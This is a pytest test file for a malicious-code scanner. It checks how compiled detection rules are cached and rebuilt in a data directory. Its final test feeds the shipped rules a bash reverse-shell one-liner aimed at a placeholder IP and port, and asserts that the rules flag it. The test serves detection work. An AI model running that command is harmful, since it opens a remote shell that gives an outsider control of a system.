"""Compiled rules are kept in the data directory, and made anew where the file is not theirs or not whole."""

from __future__ import annotations

from pathlib import Path

import pytest

from scangate.detectors.malicious_code.compiled import compiled
from scangate.detectors.malicious_code.rulebook import load_rules
from scangate.errors import ConfigurationError

SOURCES = {"a.b": 'rule a__b { strings: $x = "abc" condition: $x }'}


def names(rules: object, data: bytes) -> list[str]:
    return [rule.identifier for rule in rules.scan(data).matching_rules]  # type: ignore[attr-defined]


def test_a_second_start_reads_what_the_first_compiled(tmp_path: Path) -> None:
    assert names(compiled(SOURCES, tmp_path), b"xabc") == ["a__b"]
    (file,) = (tmp_path / "compiled").iterdir()
    written = file.stat().st_mtime_ns
    assert names(compiled(SOURCES, tmp_path), b"xabc") == ["a__b"]
    assert file.stat().st_mtime_ns == written


def test_a_file_that_is_not_whole_is_made_anew(tmp_path: Path) -> None:
    compiled(SOURCES, tmp_path)
    (file,) = (tmp_path / "compiled").iterdir()
    whole = file.read_bytes()
    file.write_bytes(whole[: len(whole) // 2])
    assert names(compiled(SOURCES, tmp_path), b"xabc") == ["a__b"]
    assert len(file.read_bytes()) > len(whole) // 2


def test_other_rules_replace_the_file(tmp_path: Path) -> None:
    compiled(SOURCES, tmp_path)
    other = {"c": 'rule c { strings: $x = "zzz" condition: $x }'}
    assert names(compiled(other, tmp_path), b"zzz") == ["c"]
    assert len(list((tmp_path / "compiled").iterdir())) == 1


def test_a_directory_that_takes_no_file_costs_time_only(tmp_path: Path) -> None:
    (tmp_path / "compiled").write_text("in the way")
    assert names(compiled(SOURCES, tmp_path), b"xabc") == ["a__b"]


def test_a_faulty_rule_is_named(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match=r"a\.b"):
        compiled({"a.b": "rule a__b { condition: $missing }"}, tmp_path)


def test_the_shipped_rules_say_the_same_from_the_file(tmp_path: Path) -> None:
    code = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
    first, second = load_rules(tmp_path), load_rules(tmp_path)
    found = [hit.rule.id for hit in first.hits(code)]
    assert found and [hit.rule.id for hit in second.hits(code)] == found
